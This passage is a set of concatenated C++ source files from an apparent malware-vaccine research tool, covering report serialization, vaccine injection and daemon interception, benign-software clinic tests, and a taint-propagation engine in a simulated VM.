std::string SampleReportToJson(const SampleReport& report) {
  std::string out = StrFormat(
      "{\"name\":%s,\"digest\":%s,\"evasion_class\":%s,\"disposition\":%d,"
      "\"resource_api_occurrences\":%zu,\"tainted_occurrences\":%zu,"
      "\"resource_sensitive\":%s,\"phase1_stop\":%d,"
      "\"phase1_status\":%s,\"phase2_status\":%s,"
      "\"targets_considered\":%zu,\"filtered_not_exclusive\":%zu,"
      "\"filtered_no_impact\":%zu,\"filtered_non_deterministic\":%zu,"
      "\"impact_retries\":%zu,\"targets_faulted\":%zu,"
      "\"vaccines_demoted\":%zu,\"faults_injected\":%zu",
      Quoted(report.sample_name).c_str(),
      Quoted(report.sample_digest).c_str(),
      Quoted(report.evasion_class).c_str(),
      static_cast<int>(report.disposition),
      report.resource_api_occurrences, report.tainted_occurrences,
      report.resource_sensitive ? "true" : "false",
      static_cast<int>(report.phase1_stop),
      StatusToJson(report.phase1_status).c_str(),
      StatusToJson(report.phase2_status).c_str(),
      report.targets_considered, report.filtered_not_exclusive,
      report.filtered_no_impact, report.filtered_non_deterministic,
      report.impact_retries, report.targets_faulted,
      report.vaccines_demoted, report.faults_injected);
  out += ",\"vaccines\":[";
  for (size_t i = 0; i < report.vaccines.size(); ++i) {
    if (i > 0) out += ",";
    out += VaccineToJson(report.vaccines[i]);
  }
  // wall_ns is deliberately omitted: the journal and worker protocol
  // carry only deterministic fields (see src/support/tracing.h).
  out += "],\"phase_costs\":[";
  for (size_t i = 0; i < report.phase_costs.size(); ++i) {
    const PhaseTotal& cost = report.phase_costs[i];
    if (i > 0) out += ",";
    out += StrFormat("{\"phase\":%s,\"spans\":%llu,\"ticks\":%llu}",
                     Quoted(cost.name).c_str(),
                     static_cast<unsigned long long>(cost.spans),
                     static_cast<unsigned long long>(cost.ticks));
  }
  out += StrFormat(
      "],\"natural_trace\":%s}",
      Quoted(trace::SerializeApiTrace(report.natural_trace)).c_str());
  return out;
}

Result<SampleReport> SampleReportFromJson(const JsonValue& json) {
  if (!json.is_object()) {
    return Status::InvalidArgument("sample report is not an object");
  }
  SampleReport report;
  AUTOVAC_ASSIGN_OR_RETURN(report.sample_name,
                           JsonFieldString(json, "name"));
  AUTOVAC_ASSIGN_OR_RETURN(report.sample_digest,
                           JsonFieldString(json, "digest"));
  // Absent in journals written before the evasion subsystem existed.
  if (json.Find("evasion_class") != nullptr) {
    AUTOVAC_ASSIGN_OR_RETURN(report.evasion_class,
                             JsonFieldString(json, "evasion_class"));
  }
  AUTOVAC_ASSIGN_OR_RETURN(
      const uint64_t disposition,
      EnumField(json, "disposition", kNumDispositions));
  report.disposition = static_cast<SampleDisposition>(disposition);
  AUTOVAC_ASSIGN_OR_RETURN(
      report.resource_api_occurrences,
      JsonFieldUint64(json, "resource_api_occurrences"));
  AUTOVAC_ASSIGN_OR_RETURN(report.tainted_occurrences,
                           JsonFieldUint64(json, "tainted_occurrences"));
  AUTOVAC_ASSIGN_OR_RETURN(report.resource_sensitive,
                           JsonFieldBool(json, "resource_sensitive"));
  AUTOVAC_ASSIGN_OR_RETURN(
      const uint64_t stop,
      EnumField(json, "phase1_stop", vm::kNumStopReasons));
  report.phase1_stop = static_cast<vm::StopReason>(stop);

  const JsonValue* phase1 = json.Find("phase1_status");
  const JsonValue* phase2 = json.Find("phase2_status");
  if (phase1 == nullptr || phase2 == nullptr) {
    return Status::InvalidArgument("missing phase statuses");
  }
  AUTOVAC_RETURN_IF_ERROR(StatusFromJson(*phase1, &report.phase1_status));
  AUTOVAC_RETURN_IF_ERROR(StatusFromJson(*phase2, &report.phase2_status));

  AUTOVAC_ASSIGN_OR_RETURN(report.targets_considered,
                           JsonFieldUint64(json, "targets_considered"));
  AUTOVAC_ASSIGN_OR_RETURN(report.filtered_not_exclusive,
                           JsonFieldUint64(json, "filtered_not_exclusive"));
  AUTOVAC_ASSIGN_OR_RETURN(report.filtered_no_impact,
                           JsonFieldUint64(json, "filtered_no_impact"));
  AUTOVAC_ASSIGN_OR_RETURN(
      report.filtered_non_deterministic,
      JsonFieldUint64(json, "filtered_non_deterministic"));
  AUTOVAC_ASSIGN_OR_RETURN(report.impact_retries,
                           JsonFieldUint64(json, "impact_retries"));
  AUTOVAC_ASSIGN_OR_RETURN(report.targets_faulted,
                           JsonFieldUint64(json, "targets_faulted"));
  AUTOVAC_ASSIGN_OR_RETURN(report.vaccines_demoted,
                           JsonFieldUint64(json, "vaccines_demoted"));
  AUTOVAC_ASSIGN_OR_RETURN(report.faults_injected,
                           JsonFieldUint64(json, "faults_injected"));

  const JsonValue* vaccines = json.Find("vaccines");
  if (vaccines == nullptr || !vaccines->is_array()) {
    return Status::InvalidArgument("missing vaccines array");
  }
  for (const JsonValue& vaccine_json : vaccines->array) {
    AUTOVAC_ASSIGN_OR_RETURN(Vaccine vaccine,
                             VaccineFromJson(vaccine_json));
    report.vaccines.push_back(std::move(vaccine));
  }

  const JsonValue* costs = json.Find("phase_costs");
  if (costs == nullptr || !costs->is_array()) {
    return Status::InvalidArgument("missing phase_costs array");
  }
  for (const JsonValue& cost_json : costs->array) {
    PhaseTotal cost;
    AUTOVAC_ASSIGN_OR_RETURN(cost.name,
                             JsonFieldString(cost_json, "phase"));
    AUTOVAC_ASSIGN_OR_RETURN(cost.spans,
                             JsonFieldUint64(cost_json, "spans"));
    AUTOVAC_ASSIGN_OR_RETURN(cost.ticks,
                             JsonFieldUint64(cost_json, "ticks"));
    report.phase_costs.push_back(std::move(cost));
  }

  AUTOVAC_ASSIGN_OR_RETURN(const std::string trace_text,
                           JsonFieldString(json, "natural_trace"));
  AUTOVAC_ASSIGN_OR_RETURN(report.natural_trace,
                           trace::ParseApiTrace(trace_text));
  return report;
}

Result<SampleReport> ParseSampleReportJson(std::string_view text) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue json, ParseJson(text));
  return SampleReportFromJson(json);
}

std::string CampaignReportToJson(const CampaignReport& report) {
  std::string out = StrFormat(
      "{\"samples\":%zu,\"samples_failed\":%zu,\"samples_degraded\":%zu,"
      "\"total_vaccines\":%zu,\"total_demoted\":%zu,"
      "\"total_faults_injected\":%zu",
      report.reports.size(), report.samples_failed, report.samples_degraded,
      report.total_vaccines, report.total_demoted,
      report.total_faults_injected);
  out += ",\"phase_costs\":[";
  for (size_t i = 0; i < report.phase_costs.size(); ++i) {
    const PhaseTotal& cost = report.phase_costs[i];
    if (i > 0) out += ",";
    out += StrFormat("{\"phase\":%s,\"spans\":%llu,\"ticks\":%llu}",
                     Quoted(cost.name).c_str(),
                     static_cast<unsigned long long>(cost.spans),
                     static_cast<unsigned long long>(cost.ticks));
  }
  out += "],\"reports\":[";
  for (size_t i = 0; i < report.reports.size(); ++i) {
    if (i > 0) out += ",";
    out += SampleReportToJson(report.reports[i]);
  }
  out += "]}";
  return out;
}

}  // namespace autovac::vaccine
