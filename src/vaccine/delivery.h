// Phase-III: vaccine delivery and deployment (§V).
//
// Direct injection materializes static vaccines in the target machine's
// object namespace (create the marker mutex/file/registry key, or plant a
// system-owned resource whose ACL denies the malware's operation).
//
// The vaccine daemon covers the other identifier kinds:
//   * algorithm-deterministic — replay the extracted program slice against
//     the host to compute the concrete identifier, then inject it (and
//     re-check when host inputs change);
//   * partial static — intercept resource APIs and return the predefined
//     result whenever the identifier matches the vaccine's pattern.
#pragma once

#include <cstdint>
#include <string>
#include <unordered_set>
#include <vector>

#include "os/host_environment.h"
#include "sandbox/hooks.h"
#include "vaccine/vaccine.h"

namespace autovac::vaccine {

struct InjectionReport {
  size_t direct_injected = 0;
  size_t slices_replayed = 0;
  size_t daemon_patterns = 0;
  std::vector<std::string> injected_identifiers;
};

// Injects one static (or already-concretized) vaccine into the machine.
void InjectVaccine(os::HostEnvironment& env, const Vaccine& vaccine,
                   const std::string& concrete_identifier);

class VaccineDaemon {
 public:
  // Registers a vaccine for deployment. Returns false — keeping the
  // already-registered copy — when a vaccine with the same content
  // digest (vaccine/json.h VaccineDigest) was added before: re-adding a
  // campaign's output, or feeding two campaigns that extracted the same
  // vaccine, must not double-inject or double-count in InjectionReport.
  bool AddVaccine(Vaccine vaccine);

  [[nodiscard]] const std::vector<Vaccine>& vaccines() const {
    return vaccines_;
  }

  // Installs everything installable on the machine: direct injections for
  // static vaccines, slice replays + injection for algorithm-deterministic
  // ones. Partial-static vaccines stay in the interception table.
  InjectionReport Install(os::HostEnvironment& env);

  // The interception hook enforcing partial-static vaccines; pass it to
  // RunProgram for every process on the protected machine. The hook
  // matches through a compiled PatternIndex (support/match_index.h), so
  // its cost per intercepted call is O(identifier length), not O(number
  // of vaccines); first-registered-wins order is preserved.
  [[nodiscard]] sandbox::ApiHook Hook() const;

  // §V: "Our daemon process runs periodically to check whether the input
  // has been changed and the vaccine needs to be re-generated." Call on a
  // schedule; when the host's identity inputs changed since the last
  // Install/Refresh, algorithm-deterministic slices are replayed and the
  // fresh identifiers injected. Returns the number of re-generated
  // vaccines (0 when the host is unchanged).
  size_t RefreshIfHostChanged(os::HostEnvironment& env);

  // Replays an algorithm-deterministic vaccine's slice against the host
  // and returns the concrete identifier it computes.
  [[nodiscard]] static std::string ReplaySlice(
      const analysis::VaccineSlice& slice, const os::HostEnvironment& host);

 private:
  // Fingerprint of the identity inputs slices consume.
  [[nodiscard]] static uint64_t HostFingerprint(
      const os::HostEnvironment& env);

  std::vector<Vaccine> vaccines_;
  std::unordered_set<std::string> digests_;  // content addresses seen
  uint64_t installed_fingerprint_ = 0;
};

}  // namespace autovac::vaccine
