// Malware clinic test (§IV-D): inject candidate vaccines into an
// environment running benign software and verify the benign programs
// behave identically — any deviation discards the vaccine.
#pragma once

#include <string>
#include <vector>

#include "os/host_environment.h"
#include "sandbox/sandbox.h"
#include "vaccine/vaccine.h"
#include "vm/program.h"

namespace autovac::vaccine {

struct ClinicResult {
  std::vector<Vaccine> passed;
  std::vector<Vaccine> discarded;
  // For each discarded vaccine: which benign program deviated.
  std::vector<std::string> discard_reasons;
};

struct ClinicOptions {
  uint64_t cycle_budget = sandbox::kOneMinuteBudget;
  uint64_t machine_seed = 7;
};

// Tests every vaccine against the full benign corpus, one vaccine at a
// time (so a single bad vaccine cannot mask others).
[[nodiscard]] ClinicResult RunClinicTest(
    const std::vector<Vaccine>& candidates,
    const std::vector<vm::Program>& benign_corpus,
    const ClinicOptions& options = {});

// True when `program` behaves identically on the two machines (same API
// sequence, same success results).
[[nodiscard]] bool BehavesIdentically(const vm::Program& program,
                                      const os::HostEnvironment& clean,
                                      const os::HostEnvironment& vaccinated,
                                      const sandbox::ApiHook& daemon_hook,
                                      uint64_t cycle_budget);

}  // namespace autovac::vaccine
