#include "vaccine/bdr.h"

namespace autovac::vaccine {

BdrResult MeasureBdr(const vm::Program& sample,
                     const std::vector<Vaccine>& vaccines,
                     const BdrOptions& options) {
  BdrResult result;

  sandbox::RunOptions run_options;
  run_options.cycle_budget = options.cycle_budget;
  run_options.enable_taint = false;

  os::HostEnvironment normal =
      os::HostEnvironment::StandardMachine(options.machine_seed);
  auto normal_run = sandbox::RunProgram(sample, normal, run_options);
  result.native_calls_normal = normal_run.api_trace.NativeCallCount();

  VaccineDaemon daemon;
  for (const Vaccine& vaccine : vaccines) daemon.AddVaccine(vaccine);
  os::HostEnvironment vaccinated =
      os::HostEnvironment::StandardMachine(options.machine_seed);
  daemon.Install(vaccinated);
  auto vaccinated_run = sandbox::RunProgram(sample, vaccinated, run_options,
                                            {daemon.Hook()});
  result.native_calls_vaccinated = vaccinated_run.api_trace.NativeCallCount();
  result.malware_terminated_early =
      vaccinated_run.stop_reason == vm::StopReason::kExited;

  if (result.native_calls_normal > 0) {
    result.bdr =
        static_cast<double>(result.native_calls_normal -
                            std::min(result.native_calls_vaccinated,
                                     result.native_calls_normal)) /
        static_cast<double>(result.native_calls_normal);
  }
  return result;
}

}  // namespace autovac::vaccine
