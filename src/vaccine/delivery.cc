#include "vaccine/delivery.h"

#include <array>
#include <memory>

#include "os/errors.h"
#include "sandbox/sandbox.h"
#include "support/match_index.h"
#include "vaccine/json.h"

namespace autovac::vaccine {
namespace {

// ACL mask a denial vaccine plants on injected files/keys.
uint32_t DenyAllMask() {
  return os::DenyBit(os::Operation::kCreate) |
         os::DenyBit(os::Operation::kOpen) |
         os::DenyBit(os::Operation::kRead) |
         os::DenyBit(os::Operation::kWrite) |
         os::DenyBit(os::Operation::kDelete);
}

// Presence vaccines stay readable (the malware must *see* the marker)
// but refuse re-creation and writes, like the paper's sdra64.exe vaccine
// ("owned by a super user and does not allow any creation operation").
uint32_t PresenceMask() {
  return os::DenyBit(os::Operation::kCreate) |
         os::DenyBit(os::Operation::kWrite) |
         os::DenyBit(os::Operation::kDelete);
}

}  // namespace

void InjectVaccine(os::HostEnvironment& env, const Vaccine& vaccine,
                   const std::string& concrete_identifier) {
  os::ObjectNamespace& ns = env.ns();
  const uint32_t mask =
      vaccine.simulate_presence ? PresenceMask() : DenyAllMask();
  switch (vaccine.resource_type) {
    case os::ResourceType::kFile:
      ns.InjectVaccineFile(concrete_identifier, mask);
      break;
    case os::ResourceType::kMutex:
      ns.InjectVaccineMutex(concrete_identifier);
      break;
    case os::ResourceType::kRegistry:
      ns.InjectVaccineKey(concrete_identifier, mask);
      break;
    case os::ResourceType::kWindow:
      // A reserved class both reports the window as present (FindWindow)
      // and refuses its creation (RegisterClass/CreateWindowEx).
      ns.ReserveWindowClass(concrete_identifier);
      break;
    case os::ResourceType::kLibrary:
      if (vaccine.simulate_presence) {
        ns.PreinstallLibrary(concrete_identifier);
      } else {
        ns.BlockLibrary(concrete_identifier);
      }
      break;
    case os::ResourceType::kService:
      ns.InjectVaccineService(concrete_identifier);
      break;
    case os::ResourceType::kProcess:
      if (vaccine.simulate_presence) {
        ns.SpawnProcess(concrete_identifier, /*system_owned=*/true);
      } else {
        // Denial of a process resource means preventing the malware from
        // dropping/starting its image: plant a deny-all file.
        ns.InjectVaccineFile(concrete_identifier, DenyAllMask());
      }
      break;
    case os::ResourceType::kTypeCount:
      break;
  }
}

bool VaccineDaemon::AddVaccine(Vaccine vaccine) {
  if (!digests_.insert(VaccineDigest(vaccine)).second) return false;
  vaccines_.push_back(std::move(vaccine));
  return true;
}

std::string VaccineDaemon::ReplaySlice(const analysis::VaccineSlice& slice,
                                       const os::HostEnvironment& host) {
  // The slice runs against a scratch copy of the host (its env-query APIs
  // must see the real profile; its side effects must not stick).
  os::HostEnvironment scratch = host;
  sandbox::RunOptions options;
  options.enable_taint = false;
  options.capture_cstring_addr = slice.output_addr;
  options.cycle_budget = sandbox::kOneMinuteBudget;
  auto result = sandbox::RunProgram(slice.program, scratch, options);
  return result.captured_output;
}

uint64_t VaccineDaemon::HostFingerprint(const os::HostEnvironment& env) {
  const os::HostProfile& profile = env.profile();
  uint64_t hash = HashSeed(profile.computer_name);
  hash ^= HashSeed(profile.user_name) * 0x9E3779B97F4A7C15ULL;
  hash ^= profile.volume_serial;
  hash ^= HashSeed(profile.ip_address) << 1;
  return hash;
}

InjectionReport VaccineDaemon::Install(os::HostEnvironment& env) {
  InjectionReport report;
  installed_fingerprint_ = HostFingerprint(env);
  for (const Vaccine& vaccine : vaccines_) {
    switch (vaccine.identifier_kind) {
      case analysis::IdentifierClass::kStatic: {
        InjectVaccine(env, vaccine, vaccine.identifier);
        ++report.direct_injected;
        report.injected_identifiers.push_back(vaccine.identifier);
        break;
      }
      case analysis::IdentifierClass::kAlgorithmDeterministic: {
        std::string concrete = vaccine.identifier;
        if (vaccine.slice.has_value()) {
          std::string replayed = ReplaySlice(*vaccine.slice, env);
          if (!replayed.empty()) concrete = replayed;
          ++report.slices_replayed;
        }
        InjectVaccine(env, vaccine, concrete);
        report.injected_identifiers.push_back(concrete);
        break;
      }
      case analysis::IdentifierClass::kPartialStatic:
        ++report.daemon_patterns;  // enforced by Hook()
        break;
      case analysis::IdentifierClass::kNonDeterministic:
        break;  // never deployed
    }
  }
  return report;
}

size_t VaccineDaemon::RefreshIfHostChanged(os::HostEnvironment& env) {
  const uint64_t fingerprint = HostFingerprint(env);
  if (fingerprint == installed_fingerprint_) return 0;
  installed_fingerprint_ = fingerprint;
  size_t regenerated = 0;
  for (const Vaccine& vaccine : vaccines_) {
    if (vaccine.identifier_kind !=
            analysis::IdentifierClass::kAlgorithmDeterministic ||
        !vaccine.slice.has_value()) {
      continue;
    }
    const std::string fresh = ReplaySlice(*vaccine.slice, env);
    if (fresh.empty()) continue;
    InjectVaccine(env, vaccine, fresh);
    ++regenerated;
  }
  return regenerated;
}

sandbox::ApiHook VaccineDaemon::Hook() const {
  // Compiled interception table, shared with the closure so the hook
  // outlives the daemon object if needed. One index per resource type
  // keeps the type filter out of the match entirely; First() preserves
  // the first-registered-pattern-wins rule of the old linear scan.
  struct HookTable {
    std::vector<Vaccine> patterns;
    std::array<PatternIndex, os::kNumResourceTypes> index;
    std::array<std::vector<size_t>, os::kNumResourceTypes> vaccine_of_id;
  };
  auto table = std::make_shared<HookTable>();
  for (const Vaccine& vaccine : vaccines_) {
    if (vaccine.identifier_kind == analysis::IdentifierClass::kPartialStatic) {
      table->patterns.push_back(vaccine);
    }
  }
  for (size_t i = 0; i < table->patterns.size(); ++i) {
    const Vaccine& vaccine = table->patterns[i];
    const auto type = static_cast<size_t>(vaccine.resource_type);
    (void)table->index[type].Add(vaccine.pattern);
    table->vaccine_of_id[type].push_back(i);
  }
  for (PatternIndex& index : table->index) index.Build();
  return [table](const sandbox::ApiObservation& obs)
             -> std::optional<sandbox::ForcedOutcome> {
    if (!obs.spec->is_resource_api || obs.identifier.empty()) {
      return std::nullopt;
    }
    const auto type = static_cast<size_t>(obs.spec->resource_type);
    if (type >= os::kNumResourceTypes) return std::nullopt;
    const size_t id = table->index[type].First(obs.identifier);
    if (id == SIZE_MAX) return std::nullopt;
    const Vaccine& vaccine =
        table->patterns[table->vaccine_of_id[type][id]];
    sandbox::ForcedOutcome outcome;
    if (vaccine.simulate_presence) {
      outcome.success = true;
      outcome.last_error = obs.spec->operation == os::Operation::kCreate
                               ? os::kErrorAlreadyExists
                               : os::kErrorSuccess;
    } else {
      outcome.success = false;
      outcome.last_error = os::kErrorAccessDenied;
    }
    return outcome;
  };
}

}  // namespace autovac::vaccine
