// Taint labels.
//
// Each taint source is one resource-API call occurrence ("AUTOVAC will
// taint the return values as well as the affected arguments of these
// functions", §III-A). A location can carry several sources at once, so
// labels are interned *sets* of source indices: LabelSetId 0 is the empty
// set, unions are memoized, and storage is shared across the whole run.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "os/resources.h"
#include "support/status.h"

namespace autovac::taint {

using LabelSetId = uint32_t;
inline constexpr LabelSetId kEmptySet = 0;

// Provenance of one tainted value: the API occurrence that produced it.
struct TaintSource {
  uint32_t api_sequence = 0;  // index into the run's ApiTrace
  std::string api_name;
  os::ResourceType resource_type = os::ResourceType::kFile;
  os::Operation operation = os::Operation::kOpen;
  std::string identifier;
  bool call_succeeded = false;
};

class LabelStore {
 public:
  LabelStore() { sets_.push_back({}); }  // id 0 = empty

  // Registers a new source and returns the singleton set containing it.
  LabelSetId AddSource(TaintSource source);

  // Set union with memoization.
  LabelSetId Union(LabelSetId a, LabelSetId b);

  [[nodiscard]] const std::vector<uint32_t>& Sources(LabelSetId id) const {
    AUTOVAC_CHECK_MSG(id < sets_.size(), "bad label set id");
    return sets_[id];
  }

  [[nodiscard]] const TaintSource& Source(uint32_t index) const {
    AUTOVAC_CHECK_MSG(index < sources_.size(), "bad source index");
    return sources_[index];
  }

  [[nodiscard]] size_t num_sources() const { return sources_.size(); }
  [[nodiscard]] size_t num_sets() const { return sets_.size(); }

 private:
  LabelSetId InternSet(std::vector<uint32_t> sorted);

  std::vector<TaintSource> sources_;
  std::vector<std::vector<uint32_t>> sets_;
  std::map<std::vector<uint32_t>, LabelSetId> set_ids_;
  std::map<std::pair<LabelSetId, LabelSetId>, LabelSetId> union_cache_;
};

}  // namespace autovac::taint
