// Shadow state: one LabelSetId per register, per memory byte, and for the
// flags register.
#pragma once

#include <array>
#include <vector>

#include "taint/labels.h"
#include "vm/isa.h"
#include "vm/memory.h"

namespace autovac::taint {

// Value copy of a TaintMap's shadow state (registers, flags, memory) —
// everything except the label store it interprets against, which is
// snapshotted separately (LabelStore is itself copyable).
struct TaintMapState {
  std::array<LabelSetId, vm::kNumRegs> regs{};
  LabelSetId flags = kEmptySet;
  std::vector<LabelSetId> mem;
};

class TaintMap {
 public:
  explicit TaintMap(LabelStore& store)
      : store_(store), mem_(vm::kMemSize, kEmptySet) {}

  [[nodiscard]] TaintMapState CaptureState() const {
    return {regs_, flags_, mem_};
  }
  void RestoreState(const TaintMapState& state) {
    regs_ = state.regs;
    flags_ = state.flags;
    mem_ = state.mem;
  }

  [[nodiscard]] LabelSetId Reg(vm::Reg reg) const {
    return reg == vm::Reg::kNone ? kEmptySet
                                 : regs_[static_cast<size_t>(reg)];
  }
  void SetReg(vm::Reg reg, LabelSetId label) {
    if (reg != vm::Reg::kNone) regs_[static_cast<size_t>(reg)] = label;
  }

  [[nodiscard]] LabelSetId Flags() const { return flags_; }
  void SetFlags(LabelSetId label) { flags_ = label; }

  // Union of the labels on [addr, addr+size).
  [[nodiscard]] LabelSetId RangeUnion(uint32_t addr, uint32_t size) const;

  void SetRange(uint32_t addr, uint32_t size, LabelSetId label);

  [[nodiscard]] LabelSetId Byte(uint32_t addr) const {
    return addr < mem_.size() ? mem_[addr] : kEmptySet;
  }

  [[nodiscard]] LabelStore& store() { return store_; }

 private:
  LabelStore& store_;
  std::array<LabelSetId, vm::kNumRegs> regs_{};
  LabelSetId flags_ = kEmptySet;
  std::vector<LabelSetId> mem_;
};

}  // namespace autovac::taint
