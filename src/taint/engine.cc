#include "taint/engine.h"

#include <algorithm>

namespace autovac::taint {

void TaintEngine::OnStep(const vm::StepInfo& step) {
  using vm::Op;
  const vm::Instruction& inst = step.inst;
  LabelStore& store = map_.store();
  ++propagation_ops_;

  // Control-dependence extension (§VII future work): a conditional branch
  // on tainted flags opens a region in which writes inherit the
  // predicate's labels.
  const LabelSetId control =
      options_.track_control_dependence ? ControlLabel(step.pc) : kEmptySet;
  if (options_.track_control_dependence) {
    const bool conditional =
        inst.op == Op::kJz || inst.op == Op::kJnz || inst.op == Op::kJg ||
        inst.op == Op::kJl || inst.op == Op::kJge || inst.op == Op::kJle;
    if (conditional && map_.Flags() != kEmptySet) {
      const auto target = static_cast<uint32_t>(inst.imm);
      if (target > step.pc) {  // forward branch: if/else shape
        control_label_ = store.Union(control_label_, map_.Flags());
        if (step.branch_taken) {
          // The else-arm executes; approximate its extent by the
          // then-arm's length (the compiler-ladder diamond is symmetric
          // enough for the laundering idiom).
          const uint32_t span = std::max<uint32_t>(target - step.pc - 1, 1);
          control_region_start_ = target;
          control_region_end_ = target + span;
        } else {
          control_region_start_ = step.pc + 1;
          control_region_end_ = target;
        }
      }
    } else if (step.pc >= control_region_end_) {
      control_label_ = kEmptySet;  // left the region
      control_region_start_ = control_region_end_ = 0;
    }
  }

  switch (inst.op) {
    case Op::kNop:
    case Op::kHlt:
    case Op::kJmp:
    case Op::kJz: case Op::kJnz: case Op::kJg: case Op::kJl:
    case Op::kJge: case Op::kJle:
      break;

    case Op::kMovRI:
      map_.SetReg(inst.r1, control);  // constants clear taint (unless
                                      // control-dependent on a predicate)
      break;
    case Op::kMovRR:
    case Op::kLea:
      map_.SetReg(inst.r1, store.Union(map_.Reg(inst.r2), control));
      break;

    case Op::kLoad:
    case Op::kLoadB: {
      LabelSetId label = map_.RangeUnion(step.mem_addr, step.mem_size);
      if (options_.propagate_addresses) {
        label = store.Union(label, map_.Reg(inst.r2));
      }
      map_.SetReg(inst.r1, store.Union(label, control));
      break;
    }
    case Op::kStore:
    case Op::kStoreB: {
      LabelSetId label = map_.Reg(inst.r2);
      if (options_.propagate_addresses) {
        label = store.Union(label, map_.Reg(inst.r1));
      }
      map_.SetRange(step.mem_addr, step.mem_size, store.Union(label, control));
      break;
    }

    case Op::kPushR:
      map_.SetRange(step.mem_addr, step.mem_size,
                    store.Union(map_.Reg(inst.r1), control));
      break;
    case Op::kPushI:
    case Op::kCall:  // pushes a constant return pc
      map_.SetRange(step.mem_addr, step.mem_size, kEmptySet);
      break;
    case Op::kPopR:
    case Op::kRet: {
      const LabelSetId label = map_.RangeUnion(step.mem_addr, step.mem_size);
      if (inst.op == Op::kPopR) map_.SetReg(inst.r1, label);
      break;
    }

    case Op::kXorRR:
      if (inst.r1 == inst.r2) {
        // xor r, r — the x86 zeroing idiom severs dataflow.
        map_.SetReg(inst.r1, kEmptySet);
        map_.SetFlags(kEmptySet);
        break;
      }
      [[fallthrough]];
    case Op::kAddRR: case Op::kSubRR: case Op::kAndRR: case Op::kOrRR:
    case Op::kMulRR: {
      const LabelSetId label =
          store.Union(map_.Reg(inst.r1), map_.Reg(inst.r2));
      map_.SetReg(inst.r1, label);
      map_.SetFlags(label);
      break;
    }
    case Op::kAddRI: case Op::kSubRI: case Op::kXorRI: case Op::kAndRI:
    case Op::kOrRI: case Op::kMulRI: case Op::kShlRI: case Op::kShrRI:
    case Op::kNotR: case Op::kNegR: case Op::kIncR: case Op::kDecR:
      // Unary/immediate forms keep the destination's taint.
      map_.SetFlags(map_.Reg(inst.r1));
      break;

    case Op::kCmpRR:
    case Op::kTestRR: {
      const LabelSetId label =
          store.Union(map_.Reg(inst.r1), map_.Reg(inst.r2));
      map_.SetFlags(label);
      if (label != kEmptySet) predicates_.push_back({step.pc, label});
      break;
    }
    case Op::kCmpRI:
    case Op::kTestRI: {
      const LabelSetId label = map_.Reg(inst.r1);
      map_.SetFlags(label);
      if (label != kEmptySet) predicates_.push_back({step.pc, label});
      break;
    }

    case Op::kSys:
      // Kernel introduces taint explicitly via TaintReturnValue /
      // TaintMemory after handling the call.
      break;

    case Op::kOpCount:
      break;
  }
}

}  // namespace autovac::taint
