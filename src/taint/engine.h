// Instruction-level taint propagation ("for any instruction whose source
// operand has been associated with the tainted labels, we taint the
// destination operand with the same label", §III-B) plus the
// tainted-predicate monitor that flags a sample as "possibly has a
// vaccine" when a cmp/test touches tainted data.
#pragma once

#include <vector>

#include "taint/taint_map.h"
#include "vm/cpu.h"

namespace autovac::taint {

// A cmp/test whose operands carried taint.
struct PredicateEvent {
  uint32_t pc = 0;
  LabelSetId labels = kEmptySet;
};

struct TaintEngineOptions {
  // Propagate the address register's taint into loaded data (pointer
  // tainting). Off by default, matching the paper's data-flow focus; the
  // ablation bench flips it.
  bool propagate_addresses = false;

  // Propagate taint through control dependences: after a conditional
  // branch on tainted flags, values written inside the branch's forward
  // region carry the predicate's labels. This is the paper's §VII future
  // work ("malware could deliberately ... obfuscate through control
  // dependence"); off by default to match the published system. The
  // region is the single-level span between the branch and its forward
  // target — enough for the if/else laundering idiom, not a full
  // post-dominator analysis.
  bool track_control_dependence = false;
};

// Value copy of a TaintEngine's run state, for machine checkpointing.
// Pair it with a copy of the LabelStore taken at the same moment: label
// set ids in here index into that store's tables.
struct TaintEngineState {
  TaintMapState map;
  std::vector<PredicateEvent> predicates;
  uint64_t propagation_ops = 0;
  LabelSetId control_label = kEmptySet;
  uint32_t control_region_start = 0;
  uint32_t control_region_end = 0;
};

class TaintEngine {
 public:
  TaintEngine(LabelStore& store, TaintEngineOptions options = {})
      : map_(store), options_(options) {}

  [[nodiscard]] TaintEngineState CaptureState() const {
    TaintEngineState state;
    state.map = map_.CaptureState();
    state.predicates = predicates_;
    state.propagation_ops = propagation_ops_;
    state.control_label = control_label_;
    state.control_region_start = control_region_start_;
    state.control_region_end = control_region_end_;
    return state;
  }
  void RestoreState(const TaintEngineState& state) {
    map_.RestoreState(state.map);
    predicates_ = state.predicates;
    propagation_ops_ = state.propagation_ops;
    control_label_ = state.control_label;
    control_region_start_ = state.control_region_start;
    control_region_end_ = state.control_region_end;
  }

  // Propagates taint for one retired instruction. Call after the CPU
  // executes the step (register values in `step` are pre-execution).
  void OnStep(const vm::StepInfo& step);

  // --- kernel-side taint introduction (per the API labelling table) ---
  void TaintReturnValue(LabelSetId label) { map_.SetReg(vm::Reg::kEax, label); }
  void TaintMemory(uint32_t addr, uint32_t size, LabelSetId label) {
    map_.SetRange(addr, size, label);
  }
  // String-helper APIs propagate input-buffer taint to outputs.
  [[nodiscard]] LabelSetId MemoryLabel(uint32_t addr, uint32_t size) const {
    return map_.RangeUnion(addr, size);
  }

  [[nodiscard]] const std::vector<PredicateEvent>& predicates() const {
    return predicates_;
  }
  [[nodiscard]] bool AnyTaintedPredicate() const {
    return !predicates_.empty();
  }

  // Instructions this engine propagated taint for — a plain member
  // counter on the hot path, published to the metrics registry in bulk
  // by the sandbox once the run ends.
  [[nodiscard]] uint64_t propagation_ops() const { return propagation_ops_; }

  [[nodiscard]] TaintMap& map() { return map_; }
  [[nodiscard]] const TaintMap& map() const { return map_; }

 private:
  // Label applied to writes control-dependent on a tainted branch, while
  // execution stays inside [region_start_, region_end_).
  LabelSetId ControlLabel(uint32_t pc) const {
    return (pc >= control_region_start_ && pc < control_region_end_)
               ? control_label_
               : kEmptySet;
  }

  TaintMap map_;
  TaintEngineOptions options_;
  std::vector<PredicateEvent> predicates_;
  uint64_t propagation_ops_ = 0;
  LabelSetId control_label_ = kEmptySet;
  uint32_t control_region_start_ = 0;
  uint32_t control_region_end_ = 0;
};

}  // namespace autovac::taint
