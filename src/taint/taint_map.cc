#include "taint/taint_map.h"

namespace autovac::taint {

LabelSetId TaintMap::RangeUnion(uint32_t addr, uint32_t size) const {
  LabelSetId label = kEmptySet;
  for (uint32_t i = 0; i < size && addr + i < mem_.size(); ++i) {
    // Mutable union through the shared store; cheap due to memoization.
